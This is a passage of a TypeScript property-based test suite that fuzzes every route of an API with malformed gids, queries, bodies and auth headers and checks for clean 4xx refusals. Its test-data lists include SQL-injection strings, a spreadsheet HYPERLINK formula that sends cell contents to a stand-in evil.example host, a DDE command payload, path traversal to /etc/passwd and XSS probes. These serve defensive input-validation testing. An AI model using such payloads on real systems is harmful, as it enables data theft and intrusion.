/**
 * Bad input on every route (issue 7): for EVERY route of the live route table (generated
 * from `routes`, so a new route is covered as soon as it is registered), property-based
 * requests built with fast-check from the route's zod schemas (through the same JSON
 * Schema conversion the OpenAPI document uses), each with ONE thing wrong on top of a
 * valid request against a world of real objects:
 *
 * - path: gids that are not digits, 20+ digits, negative, unicode, SQL, broken
 *   %-encoding, valid-looking gids of nothing or of another kind of object;
 * - query: limit 0 / 101 / -1 / "abc"..., offset tokens that are garbage, of the wrong
 *   shape, tampered with, crafted, or taken from another route's list; bad opt_fields
 *   and opt_pretty; wrong values and missing required parameters; repeated parameters;
 * - body: malformed JSON, bodies without `data`, `data` of the wrong type, wrong content
 *   types, fields of the wrong type, missing required fields, strings beyond their
 *   limits, bodies beyond the size limit, bad gids, bad enum values; form and multipart
 *   routes get their own (wrong types, duplicated and missing fields, broken multipart);
 * - auth: garbage bearer tokens;
 * - and, as valid-but-unusual input: unicode (lone surrogates, RTL overrides, NUL,
 *   combining marks, emoji), SQL-injection and CSV-formula payloads, unknown fields,
 *   odd-but-valid opt_fields and limits.
 *
 * Expectations: a request with something wrong is refused with a 4xx and a JSON body
 * {"errors":[{"message": ...}]} without stack traces or SQL, and changes nothing (row
 * counts of every table, and no row written since: xmin, as in the authorization
 * matrix). Unusual input may be accepted; it must never get a 5xx, and if refused, the
 * same clean error body.
 *
 * FC_SEED=<n> replays a run (the seed is printed with every failure); FC_RUNS scales
 * the number of runs per route.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { mkdtemp, rm } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { z } from 'zod';
import { LocalBlobs } from '../../lambdas/adapters/blobs/local-blobs.js';
import { completeLogin } from '../../lambdas/domain/auth/sessions.js';
import { fullPath, isListRoute, queryShape, type RouteDef } from '../../lambdas/http/route.js';
import { routes } from '../../lambdas/http/route-table.js';
import { startLocal } from '../../lambdas/local/runtime.js';
import { CHEAP_AUTH, CHROME_MAC, identityHarness, type IdentityHarness, apiCall } from '../support/identity.js';
import { apiEvent } from '../support/http.js';
import { buildWorld, cast, errorBodyProblems, restoreCast, seededDataDir, stateChanges, stateMark, type Cast, type World } from './fixtures.js';

const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : Date.now() % 2_147_483_647;
const SCALE = process.env.FC_RUNS ? Number(process.env.FC_RUNS) : 1;
/** Runs per route: requests with something wrong, and unusual ones. */
const REFUSED_RUNS = Math.max(1, Math.round(12 * SCALE));
const UNUSUAL_RUNS = Math.max(1, Math.round(8 * SCALE));
const MAX_BODY_BYTES = 64 * 1024; // identityHarness's limit

type Json = Record<string, any>;

// --- Requests ------------------------------------------------------------------------------

/** Everything about a request, raw: the path as sent (percent-encoded), repeated query parameters, any body bytes. */
interface Req {
  method: string;
  path: string;
  query: [string, string][];
  headers: Record<string, string>;
  body?: string;
  base64?: boolean;
}

/** A valid request for a route, in parts a mutation can change. */
interface Baseline {
  params: Record<string, string>;
  query: Record<string, string>;
  /** JSON routes with a body: the value of `data`. */
  data?: unknown;
  /** Form routes: the fields. */
  form?: Record<string, string>;
  /** The multipart route: text fields and one file. */
  multipart?: { fields: Record<string, string>; file?: { filename: string; contentType: string; content: string } };
  token?: string;
}

type Expectation = 'refused' | 'any';

/** One wrong (or unusual) thing applied to a route's valid request. */
interface Mutation {
  what: string;
  expect: Expectation;
  /** Null when this mutation does not apply to the route as it is (the run is skipped). */
  apply(route: RouteDef, b: Baseline, ctx: RunContext): Req | null;
  /** A 5xx here is a known bug (KNOWN_BUGS) outside lambdas/http: counted and reported, not failed. */
  knownBug?: keyof typeof KNOWN_BUGS;
}

/**
 * Bugs this suite found that live outside lambdas/http (reported, not fixed here). Each
 * has a `test.failing` below that shows it; while it is there, the property runs that
 * hit it are counted in the coverage report instead of failing. Once fixed, the
 * test.failing fails: remove the entry.
 */
const KNOWN_BUGS: Record<'cursorTypes', string | null> = {
  // Fixed: null means a 5xx of these mutations fails the run like any other.
  cursorTypes: null,
  // (was: keysetPage bound offset values without checking them against the sort keys; a
  // well-formed offset of another list whose values did not fit the key columns was a 500)
};

interface RunContext {
  world: World;
  /** Offset tokens seen on other routes' lists (operationId -> token). */
  tokens: Map<string, string>;
}

const mutation = (what: string, expect: Expectation, apply: Mutation['apply'], knownBug?: Mutation['knownBug']): Mutation =>
  ({ what, expect, apply, ...(knownBug ? { knownBug } : {}), [fc.toStringMethod]: () => `${expect}: ${what}` }) as Mutation;

function multipartBody(fields: Record<string, string>, file?: { filename: string; contentType: string; content: string }, boundary = 'reliability7') {
  const parts = Object.entries(fields).map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
  if (file) parts.push(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.filename}"\r\nContent-Type: ${file.contentType}\r\n\r\n${file.content}\r\n`);
  return { contentType: `multipart/form-data; boundary=${boundary}`, body: `${parts.join('')}--${boundary}--\r\n` };
}

/** Percent-encoding as a client would send it; a lone surrogate goes out as its (invalid) 3-byte UTF-8 form. */
function encodePathValue(v: string): string {
  let out = '';
  for (const ch of v) {
    const u = ch.charCodeAt(0);
    if (ch.length === 1 && u >= 0xd800 && u <= 0xdfff) out += [0xe0 | (u >> 12), 0x80 | ((u >> 6) & 0x3f), 0x80 | (u & 0x3f)].map((x) => `%${x.toString(16).toUpperCase()}`).join('');
    else out += encodeURIComponent(ch);
  }
  return out;
}

/** The request a baseline stands for (with optional replacements of its parts). */
function toReq(route: RouteDef, b: Baseline, over: Partial<Baseline> & { rawPath?: string; extraQuery?: [string, string][]; headers?: Record<string, string>; body?: string | null; contentType?: string | null } = {}): Req {
  const params = over.params ?? b.params;
  let path = over.rawPath ?? fullPath(route);
  if (!over.rawPath) for (const [k, v] of Object.entries(params)) path = path.replace(`{${k}}`, encodePathValue(v));
  const query: [string, string][] = [...Object.entries(over.query ?? b.query), ...(over.extraQuery ?? [])];
  const token = 'token' in over ? over.token : b.token;
  const headers: Record<string, string> = { 'User-Agent': CHROME_MAC, ...(token ? { Authorization: `Bearer ${token}` } : {}) };
  let body: string | undefined;
  let contentType: string | undefined;
  const format = route.bodyFormat ?? 'json';
  if (over.body !== undefined) body = over.body ?? undefined;
  else if (route.request.body && format === 'json') {
    body = JSON.stringify({ data: 'data' in over ? over.data : b.data });
    contentType = 'application/json';
  } else if (format === 'form' && route.request.body) {
    body = new URLSearchParams(over.form ?? b.form ?? {}).toString();
    contentType = 'application/x-www-form-urlencoded';
  } else if (format === 'multipart') {
    const m = over.multipart ?? b.multipart!;
    const built = multipartBody(m.fields, m.file);
    body = built.body;
    contentType = built.contentType;
  }
  if (over.contentType !== undefined) contentType = over.contentType ?? undefined;
  if (body !== undefined && contentType) headers['Content-Type'] = contentType;
  Object.assign(headers, over.headers ?? {});
  return { method: route.method, path, query, headers, ...(body !== undefined ? { body } : {}) };
}

// --- Schemas -------------------------------------------------------------------------------

const toJsonSchema = (s: z.ZodType): Json => z.toJSONSchema(s, { target: 'draft-2020-12', io: 'input', unrepresentable: 'any', reused: 'inline' }) as Json;
const GID_PATTERN = '^\\d{1,19}$';
const isGidSchema = (s: Json) => s?.pattern === GID_PATTERN;
const isUserSchema = (s: Json) => typeof s?.pattern === 'string' && s.pattern.startsWith('^(me|');
const branches = (s: Json): Json[] => (s.anyOf ?? s.oneOf ?? [s]) as Json[];
const nonNull = (s: Json): Json[] => branches(s).filter((b) => b.type !== 'null');
const stringBranch = (s: Json): Json | undefined => nonNull(s).find((b) => b.type === 'string' && !b.enum && b.const === undefined);

/** Does zod accept this value? A schema that throws instead of answering counts as refusing (the request will show what happens). */
function accepts(schema: z.ZodType | undefined, value: unknown): boolean {
  if (!schema) return true;
  try {
    return schema.safeParse(value).success;
  } catch {
    return false;
  }
}

/** Which world object a field of this name refers to, when it is a gid. */
function gidFor(key: string, w: World, route: RouteDef): string {
  const k = key.replace(/\.(any|not|all)$/, '');
  const op = route.operationId;
  if (k === 'parent') {
    if (/Attachment/.test(op)) return w.task_gid!;
    if (/Task$|ForTask|setParent/.test(op)) return w.task2!;
    return w.project_gid!;
  }
  const byKey: Record<string, string | undefined> = {
    workspace: w.workspace_gid,
    organization: w.organization_gid,
    project: w.project_gid,
    projects: w.project_gid,
    section: op === 'insertSectionForProject' ? w.emptySection : w.section_gid,
    sections: w.section_gid,
    before_section: w.section_gid,
    after_section: w.section_gid,
    tag: w.tag_gid,
    tags: w.tag_gid,
    team: w.team_gid,
    teams: w.team_gid,
    task: w.task2,
    user: w.other,
    users: w.other,
    custom_field: w.field2,
    enum_option: w.option2,
    before_enum_option: w.enum_option_gid,
    after_enum_option: w.enum_option_gid,
    actor_gid: w.me,
    resource_gid: w.task_gid,
  };
  return byKey[k] ?? w.task_gid!;
}

const VALID_DAY = '2030-01-15';
const VALID_TIME = '2030-01-15T10:00:00.000Z';
let emailCounter = 0;

/** A valid value for a JSON schema, using real objects of the world for gids. */
function sample(s: Json, key: string, w: World, route: RouteDef): unknown {
  if (s.const !== undefined) return s.const;
  if (s.enum) return s.enum[0];
  if (s.anyOf || s.oneOf) {
    const options = nonNull(s);
    const pick = options.find((o) => o.type === 'array' && /s$/.test(key)) ?? options.find((o) => o.type === 'object') ?? options[0];
    return pick ? sample(pick, key, w, route) : null;
  }
  switch (s.type) {
    case 'object': {
      const out: Json = {};
      for (const r of (s.required ?? []) as string[]) out[r] = sample(s.properties[r], r, w, route);
      return out;
    }
    case 'array': {
      const n = Math.max(1, s.minItems ?? 0);
      return Array.from({ length: n }, () => sample(s.items ?? {}, key, w, route));
    }
    case 'string': {
      if (isGidSchema(s)) return gidFor(key, w, route);
      if (isUserSchema(s)) return w.other;
      if (s.format === 'date-time') return VALID_TIME;
      if (s.format === 'date' || s.pattern === '^\\d{4}-\\d{2}-\\d{2}$') return VALID_DAY;
      if (s.format === 'uri' || /url$/.test(key)) return 'https://example.com/reliability';
      if (s.format === 'email' || /@/.test(s.pattern ?? '') || /email/.test(key)) return `reliability-${Date.now().toString(36)}-${++emailCounter}@example.com`;
      const text = `Reliability ${key}`;
      const min = s.minLength ?? 0;
      return (text.length >= min ? text : text + 'x'.repeat(min - text.length)).slice(0, s.maxLength ?? Infinity);
    }
    case 'boolean':
      return true;
    case 'integer':
    case 'number':
      return s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : 1);
    default:
      return 'x';
  }
}

/**
 * Valid bodies and queries the schema alone cannot give (one object of the world that
 * must relate to another, a user who is not in the team yet...). Optional: a route
 * without an entry gets one sampled from its schema.
 */
const SAMPLES: Record<string, (w: World) => Partial<Pick<Baseline, 'data' | 'query' | 'form'>>> = {
  createTask: (w) => ({ data: { name: 'Reliability task', projects: [w.project_gid] } }),
  updateTask: () => ({ data: { notes: 'changed', name: 'Renamed' } }),
  setParentForTask: (w) => ({ data: { parent: w.task2 } }),
  addFollowersForTask: (w) => ({ data: { followers: [w.other] } }),
  removeFollowerForTask: (w) => ({ data: { followers: [w.other] } }),
  getTasks: (w) => ({ query: { project: w.project_gid! } }),
  createTag: (w) => ({ data: { name: `Reliability tag ${++emailCounter}`, workspace: w.workspace_gid } }),
  createTagForWorkspace: () => ({ data: { name: `Reliability tag ${++emailCounter}` } }),
  createProject: (w) => ({ data: { name: 'Reliability project', workspace: w.workspace_gid } }),
  addMembersForProject: (w) => ({ data: { members: [w.other] } }),
  removeMembersForProject: (w) => ({ data: { members: [w.other] } }),
  addFollowersForProject: (w) => ({ data: { followers: [w.other] } }),
  removeFollowersForProject: (w) => ({ data: { followers: [w.other] } }),
  createProjectStatusForProject: () => ({ data: { title: 'Reliability status', color: 'green' } }),
  createStatusForObject: (w) => ({ data: { parent: w.project_gid, text: 'Reliability status', status_type: 'on_track' } }),
  getStatusesForObject: (w) => ({ query: { parent: w.project_gid! } }),
  deleteSection: () => ({}),
  insertSectionForProject: (w) => ({ data: { section: w.emptySection, before_section: w.section_gid } }),
  addTaskForSection: (w) => ({ data: { task: w.task2 } }),
  createSavedSearch: (w) => ({ data: { name: 'Reliability search', workspace: w.workspace_gid, filters: { text: 'task' } } }),
  createOrganizationExport: (w) => ({ data: { organization: w.organization_gid } }),
  createAttachmentUploadUrl: (w) => ({ data: { parent: w.task_gid, name: 'big.bin', content_type: 'application/octet-stream', size: 10 } }),
  getAttachmentsForObject: (w) => ({ query: { parent: w.task_gid! } }),
  createTeam: (w) => ({ data: { name: `Reliability team ${++emailCounter}`, organization: w.organization_gid } }),
  addUserForTeam: (w) => ({ data: { user: w.other } }),
  removeUserForTeam: (w) => ({ data: { user: w.other } }),
  addUserForWorkspace: (w) => ({ data: { user: w.other } }),
  removeUserForWorkspace: (w) => ({ data: { user: w.victim } }),
  updateMessage: () => ({ data: { text: 'Edited' } }),
  createCustomField: (w) => ({ data: { workspace: w.workspace_gid, name: `Reliability field ${++emailCounter}`, resource_subtype: 'text' } }),
  createEnumOptionForCustomField: () => ({ data: { name: `Option ${++emailCounter}` } }),
  insertEnumOptionForCustomField: (w) => ({ data: { enum_option: w.option2, before_enum_option: w.enum_option_gid } }),
  updateEnumOption: () => ({ data: { color: 'blue' } }),
  addCustomFieldSettingForProject: (w) => ({ data: { custom_field: w.field2 } }),
  removeCustomFieldSettingForProject: (w) => ({ data: { custom_field: w.custom_field_gid } }),
  createMessage: (w) => ({ data: { parent: w.project_gid, title: 'Reliability message', text: 'Hello' } }),
  getMessages: (w) => ({ query: { parent: w.project_gid! } }),
  createTaskTemplateForProject: (w) => ({ data: { name: 'Reliability task template', task: w.task_gid } }),
  getTaskTemplates: (w) => ({ query: { project: w.project_gid! } }),
  changePassword: () => ({ data: { current_password: 'not the password', new_password: 'a brand new long passphrase' } }),
  inviteToOrganization: () => ({ data: { email: `invitee-${++emailCounter}-${Date.now().toString(36)}@example.com`, role: 'member' } }),
  createServiceAccount: () => ({ data: { name: `Reliability account ${++emailCounter}`, scopes: ['exports'] } }),
  updateSsoSettings: () => ({ data: { required: false } }),
  signUp: () => ({ data: { email: `signup-${++emailCounter}-${Date.now().toString(36)}@example.com`, password: 'a long enough passphrase', name: 'New person', organization_name: 'New org' } }),
  logIn: () => ({ data: { email: `nobody-${++emailCounter}@example.com`, password: 'a long enough passphrase' } }),
  getTeamsForUser: (w) => ({ query: { organization: w.organization_gid! } }),
  getTeamMemberships: (w) => ({ query: { team: w.team_gid! } }),
  getTeamMembershipsForUser: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getUsers: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getProjectTemplates: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getTags: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getProjects: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getSavedSearches: (w) => ({ query: { workspace: w.workspace_gid! } }),
  getUserTaskListForUser: (w) => ({ query: { workspace: w.workspace_gid! } }),
  exportMyTasksJson: (w) => ({ query: { workspace: w.workspace_gid! } }),
  exportMyTasksCsv: (w) => ({ query: { workspace: w.workspace_gid! } }),
};

const pathParams = (path: string) => [...path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1]!);

/** Path parameters that name the caller's own things where the default object would not do. */
const PARAM_OVERRIDES: Record<string, (w: World) => Record<string, string>> = {
  deleteSection: (w) => ({ section_gid: w.emptySection! }),
  getUserTaskListForUser: (w) => ({ user_gid: w.me! }),
};

function baseline(route: RouteDef, w: World, token: string | undefined): Baseline {
  const params: Record<string, string> = {};
  for (const p of pathParams(route.path)) {
    const v = w[p];
    if (!v) throw new Error(`${route.method} ${route.path} (${route.operationId}): the reliability world has no object for {${p}}. Add one to buildWorld in test/reliability/fixtures.ts (keyed by parameter name).`);
    params[p] = v;
  }
  Object.assign(params, PARAM_OVERRIDES[route.operationId]?.(w) ?? {});
  const special = SAMPLES[route.operationId]?.(w) ?? {};
  const query: Record<string, string> = {};
  for (const [k, s] of Object.entries(route.request.query?.shape ?? {})) {
    if (accepts(s as z.ZodType, undefined)) continue;
    query[k] = String(sample(toJsonSchema(s as z.ZodType), k, w, route));
  }
  Object.assign(query, special.query ?? {});
  const b: Baseline = { params, query, ...(route.auth !== 'none' && token ? { token } : {}) };
  const format = route.bodyFormat ?? 'json';
  if (route.request.body && format === 'json') b.data = special.data ?? sample(toJsonSchema(route.request.body), 'data', w, route);
  if (route.request.body && format === 'form') b.form = (special.form ?? sample(toJsonSchema(route.request.body), 'data', w, route)) as Record<string, string>;
  if (format === 'multipart') b.multipart = { fields: { parent: w.task_gid! }, file: { filename: 'reliability.txt', contentType: 'text/plain', content: 'hello' } };
  return b;
}

// --- Values --------------------------------------------------------------------------------

/** Any UTF-16 code unit, lone surrogates and NUL included. */
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const anyString = (maxLength = 40) => fc.oneof(fc.string({ unit: anyCodeUnit, maxLength }), fc.string({ unit: 'binary', maxLength }), fc.string({ maxLength }));

const NASTY_STRINGS = [
  '\u0000',
  'nul\u0000inside',
  '\ud800',
  'lone \udfff surrogate',
  'x\ud83dy',
  '\u202eevil\u202c override',
  '\u200f\u200e\u061c RTL marks',
  '\ufeffBOM',
  'e\u0301\u0301\u0301\u0301 combining',
  'emoji 😀👍🏽‍👩‍👩‍👧',
  'line\u2028sep\u2029para',
  '\r\n\t\u000b\u000c',
  ' ',
  'Ω≈ç√∫˜µ≤≥÷ 田中さん 𝕿𝖍𝖊 ﷽',
  "'; DROP TABLE tasks; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; select pg_sleep(5)--',
  "x' union select password_hash from users --",
  '$1::text',
  '\\x00\\',
  '%s%s%n%x',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=1+2',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
];
const nastyString = fc.oneof(fc.constantFrom(...NASTY_STRINGS), anyString(60));

const BAD_GIDS = ['abc', '12a', '-1', '+1', '1.5', '1e5', ' 1', '1 ', '0x1F', '١٢٣', '１２３', 'null', 'undefined', 'true', '[]', '{}', '\u0000', '\ud800', '\u202e123', "1' OR '1'='1", '1;select 1', '1)--', '../1', 'me'];
/** Values that are not gids. */
const badGid = fc.oneof(
  fc.constantFrom(...BAD_GIDS),
  fc.stringMatching(/^[1-9]\d{19,40}$/),
  fc.bigInt({ min: -(10n ** 20n), max: -1n }).map(String),
  anyString(30).filter((s) => s.length > 0 && !/^\d{1,19}$/.test(s)),
);
/** Gids of nothing. */
const unknownGid = fc.oneof(fc.constantFrom('0', '1', '9999999999999999999', '0000000000000000001'), fc.bigInt({ min: 10n ** 15n, max: 9_007_199_254_740_991n }).map(String));

const BAD_LIMITS = ['0', '101', '-1', 'abc', '', '1.5', 'NaN', 'Infinity', '-Infinity', '-0.5', '1e3', '99999999999999999999', '10 0', '1,2', '0x', '[]'];
const ODD_LIMITS = ['1', '100', '1e1', ' 5', '0x10', '05', '+3'];

const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
/** Offsets that are not offsets at all. */
const garbageOffset = fc.oneof(
  fc.constantFrom('!!!', '....', ' ', 'null', 'W10', b64('{}'), b64('null'), b64('"x"'), b64('[[1]]'), b64([{ ts: 'not a date' }, '1']), b64('not json'), 'A'.repeat(2048), '%00', 'eyJ', '\u0000'),
  anyString(60).filter((s) => s.length > 0 && !/^[A-Za-z0-9_-]+$/.test(s)),
  // Any JSON but an array (a well-formed array is a crafted offset, below).
  fc.json().filter((j) => !j.trim().startsWith('[')).map(b64),
);
/** Well-formed offsets with made-up values. */
const cursorValue = fc.oneof(fc.string({ maxLength: 12 }), fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.date({ noInvalidDate: true }).map((d) => ({ ts: d.toISOString() })), fc.constantFrom('1', '9999999999999999999', "' or 1=1 --"));
const craftedOffset = fc.array(cursorValue, { minLength: 1, maxLength: 4 }).map(b64);

const BAD_OPT_FIELDS = ['a b', '1abc', ',', 'a,,b', ',name', '.name', 'NAME', 'name;drop table tasks', '*', 'a-b', "name'", 'näme', 'name,', 'a'.repeat(2001), 'name\u0000', '\u202ename'];
const ODD_OPT_FIELDS = ['__proto__', '__proto__.polluted', 'constructor', 'constructor.prototype', 'prototype', 'to_string', 'a.b.c.d.e.f.g.h', 'gid,gid,gid', 'name.', 'nonexistent_field', 'data', 'errors', `${'name,'.repeat(333)}name`];

const WRONG_CONTENT_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonp', 'text/json', 'json', 'application/octet-stream', 'image/png', 'application/json-seq'];
const MALFORMED_JSON = ['{', '{"data":', '{"data": {]}', "{'data': {}}", '{"data": {"name": "x",}}', 'undefined', 'NaN', '{"data":{}}garbage', '\u0000', '{"data": {"name": "\\ud800\\u"}}', '{"data": tru}', '[', '"', '{"data": 01}', '\ufeff{"data": {}}'];
const NO_DATA = ['{}', '[]', 'null', '42', '"data"', 'true', '{"Data": {}}', '{"dat": {}}', '[{"data": {}}]', '{"data_": {}}'];

// --- Mutations -----------------------------------------------------------------------------

/** The top-level properties of a route's JSON body schema. */
function bodyProps(route: RouteDef): [string, Json][] {
  if (!route.request.body) return [];
  const s = toJsonSchema(route.request.body);
  return Object.entries((s.properties ?? {}) as Record<string, Json>);
}

function withField(data: unknown, key: string, value: unknown): unknown {
  return { ...(typeof data === 'object' && data !== null && !Array.isArray(data) ? data : {}), [key]: value };
}
function withoutField(data: unknown, key: string): unknown {
  const copy = { ...(data as Json) };
  delete copy[key];
  return copy;
}

/** A value of some other JSON type than the schema allows (checked with zod later). */
const wrongTyped = fc.constantFrom<unknown>(123, -1, 1.5, true, false, 'a string', {}, [], [1, 2], { nested: { deep: true } }, null, '', 0);

/** World objects of other kinds than a path parameter names (world key -> kind). */
const KINDS: Record<string, string> = { task2: 'task', tag_gid: 'tag', project_gid: 'project', message_gid: 'message', other: 'user', custom_field_gid: 'custom_field', team_gid: 'team', story_gid: 'story' };
const paramKind = (p: string) => {
  const k = p.replace(/_gid$/, '');
  return k === 'organization' || k === 'org' ? 'workspace' : k;
};

/** Requests with something wrong: each must be refused with a 4xx and change nothing. */
function refusedMutations(route: RouteDef): fc.Arbitrary<Mutation>[] {
  const out: fc.Arbitrary<Mutation>[] = [];
  const params = pathParams(route.path);
  const format = route.bodyFormat ?? 'json';
  const ownQuery = Object.entries(route.request.query?.shape ?? {}) as [string, z.ZodType][];
  const querySchema = z.object(queryShape(route));
  const queryAccepts = (q: Record<string, string>) => accepts(querySchema, q);

  if (params.length) {
    out.push(
      fc.tuple(fc.constantFrom(...params), badGid).map(([p, v]) =>
        mutation(`path {${p}} = ${JSON.stringify(v)}`, 'refused', (r, b) => (accepts(r.request.params, { ...b.params, [p]: v }) ? null : toReq(r, b, { params: { ...b.params, [p]: v } }))),
      ),
      fc.tuple(fc.constantFrom(...params), fc.constantFrom('%', '%E0%A4%A', '%ZZ', '%uD800', '%C0%AF', '%ED%A0%80')).map(([p, v]) =>
        mutation(`path {${p}} raw ${v}`, 'refused', (r, b) => {
          let path = fullPath(r);
          for (const [k, val] of Object.entries(b.params)) path = path.replace(`{${k}}`, k === p ? v : encodePathValue(val));
          return toReq(r, b, { rawPath: path });
        }),
      ),
      fc.tuple(fc.constantFrom(...params), unknownGid).map(([p, v]) => mutation(`path {${p}} = ${v} (no such object)`, 'refused', (r, b) => toReq(r, b, { params: { ...b.params, [p]: v } }))),
      fc.tuple(fc.constantFrom(...params), fc.constantFrom(...Object.keys(KINDS))).map(([p, key]) =>
        mutation(`path {${p}} = the gid of a ${KINDS[key]}`, 'refused', (r, b, ctx) => {
          // Only another kind of object: the same kind would be a valid request.
          if (paramKind(p) === KINDS[key]) return null;
          return toReq(r, b, { params: { ...b.params, [p]: ctx.world[key]! } });
        }),
      ),
    );
  }

  // Method and path
  out.push(
    fc.constantFrom('PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', ...(['GET', 'POST', 'PUT', 'DELETE'] as const).filter((m) => m !== route.method && !routes.some((r) => r.method === m && r.path === route.path && r.scope === route.scope))).map((method) =>
      mutation(`method ${method}`, 'refused', (r, b) => ({ ...toReq(r, b), method })),
    ),
    fc.constantFrom('/x', '/..', '/%2e%2e', '//', '/%2F', '.json', '/\u0000').map((junk) => mutation(`path + ${JSON.stringify(junk)}`, 'refused', (r, b) => {
      const req = toReq(r, b);
      return { ...req, path: `${req.path}${junk}` };
    })),
  );

  // Query
  out.push(
    fc.constantFrom(...BAD_OPT_FIELDS).map((v) => mutation(`opt_fields=${JSON.stringify(v.slice(0, 40))}`, 'refused', (r, b) => (queryAccepts({ ...b.query, opt_fields: v }) ? null : toReq(r, b, { query: { ...b.query, opt_fields: v } })))),
    fc.string({ unit: anyCodeUnit, minLength: 1, maxLength: 30 }).map((v) => mutation(`opt_fields=${JSON.stringify(v)}`, 'refused', (r, b) => (queryAccepts({ ...b.query, opt_fields: v }) ? null : toReq(r, b, { query: { ...b.query, opt_fields: v } })))),
    fc.constantFrom('yes', '1', 'TRUE', 'false ', 'x', 'null').map((v) => mutation(`opt_pretty=${v}`, 'refused', (r, b) => toReq(r, b, { query: { ...b.query, opt_pretty: v } }))),
    fc.constantFrom('opt_pretty', 'opt_fields', ...ownQuery.map(([k]) => k), ...(isListRoute(route) ? ['limit', 'offset'] : [])).map((k) =>
      mutation(`query parameter ${k} given twice`, 'refused', (r, b) => {
        const v = b.query[k] ?? (k === 'limit' ? '5' : k === 'opt_fields' ? 'name' : k === 'opt_pretty' ? 'true' : 'x');
        return toReq(r, b, { query: Object.fromEntries(Object.entries(b.query).filter(([q]) => q !== k)), extraQuery: [[k, v], [k, v]] });
      }),
    ),
  );
  const required = ownQuery.filter(([, s]) => !accepts(s, undefined)).map(([k]) => k);
  if (required.length) out.push(fc.constantFrom(...required).map((k) => mutation(`required query parameter ${k} missing`, 'refused', (r, b) => toReq(r, b, { query: Object.fromEntries(Object.entries(b.query).filter(([q]) => q !== k)) }))));
  if (ownQuery.length) {
    out.push(
      fc.tuple(fc.constantFrom(...ownQuery.map(([k]) => k)), fc.oneof(badGid, fc.constantFrom('maybe', 'yesterday', '2024-13-45', '2024-02-30T25:00:00Z', 'not-an-enum', 'x'.repeat(33_001), '-1', 'TRUE', '1e999'), anyString(20))).map(([k, v]) =>
        mutation(`query ${k}=${JSON.stringify(v.slice(0, 40))}`, 'refused', (r, b) => (queryAccepts({ ...b.query, [k]: v }) ? null : toReq(r, b, { query: { ...b.query, [k]: v } }))),
      ),
    );
  }
  if (isListRoute(route)) {
    out.push(
      fc.constantFrom(...BAD_LIMITS).map((v) => mutation(`limit=${JSON.stringify(v)}`, 'refused', (r, b) => (queryAccepts({ ...b.query, limit: v }) ? null : toReq(r, b, { query: { ...b.query, limit: v } })))),
      garbageOffset.map((v) => mutation(`offset=${JSON.stringify(v.slice(0, 60))} (garbage)`, 'refused', (r, b) => (v === '' ? null : toReq(r, b, { query: { ...b.query, offset: v } })))),
    );
  }

  // Headers
  if (route.auth !== 'none') {
    out.push(
      fc.constantFrom('Bearer x', `Bearer ${'a'.repeat(43)}`, 'Basic dXNlcjpwYXNz', 'Bearer', 'Bearer  ', 'bearer', 'Token abc', `Bearer ${'A'.repeat(5000)}`, 'Bearer \u0000', "Bearer ' OR 1=1 --", '', 'Bearer a b').map((v) =>
        mutation(`Authorization: ${JSON.stringify(v.slice(0, 50))}`, 'refused', (r, b) => toReq(r, b, { token: undefined, headers: v ? { Authorization: v } : {} })),
      ),
    );
  }

  // Bodies
  if (format === 'json') {
    out.push(
      fc.constantFrom(...MALFORMED_JSON).map((v) => mutation(`body ${JSON.stringify(v)} (malformed JSON)`, 'refused', (r, b) => toReq(r, b, { body: v, contentType: 'application/json' }))),
      fc.string({ unit: anyCodeUnit, minLength: 1, maxLength: 40 }).map((v) =>
        mutation(`body ${JSON.stringify(v)}`, 'refused', (r, b) => {
          try {
            JSON.parse(v);
            return null; // valid JSON: not what this mutation is about
          } catch {
            return toReq(r, b, { body: v, contentType: 'application/json' });
          }
        }),
      ),
      fc.constantFrom(...WRONG_CONTENT_TYPES, null).map((v) =>
        mutation(`Content-Type ${JSON.stringify(v)} with a JSON body`, 'refused', (r, b) => toReq(r, b, { body: JSON.stringify({ data: b.data ?? {} }), contentType: v })),
      ),
    );
    if (route.request.body) {
      const props = bodyProps(route);
      const bodySchema = route.request.body;
      out.push(
        fc.constantFrom(...NO_DATA).map((v) => mutation(`body ${v} (no "data")`, 'refused', (r, b) => toReq(r, b, { body: v, contentType: 'application/json' }))),
        fc.constant(mutation('body is the data itself, without the envelope', 'refused', (r, b) => (typeof b.data === 'object' && b.data !== null && 'data' in (b.data as Json) ? null : toReq(r, b, { body: JSON.stringify(b.data), contentType: 'application/json' })))),
        fc.constant(mutation('no body at all', 'refused', (r, b) => toReq(r, b, { body: null, contentType: null }))),
        wrongTyped.map((v) => mutation(`data = ${JSON.stringify(v)}`, 'refused', (r, b) => (accepts(bodySchema, v) ? null : toReq(r, b, { data: v })))),
        fc.integer({ min: 1, max: 4096 }).map((extra) =>
          mutation(`body of ${MAX_BODY_BYTES + extra} bytes`, 'refused', (r, b) => toReq(r, b, { body: JSON.stringify({ data: withField(b.data, 'name', 'x'.repeat(MAX_BODY_BYTES + extra)) }), contentType: 'application/json' })),
        ),
      );
      if (props.length) {
        const keys = props.map(([k]) => k);
        const requiredKeys = ((toJsonSchema(bodySchema).required ?? []) as string[]).filter((k) => keys.includes(k));
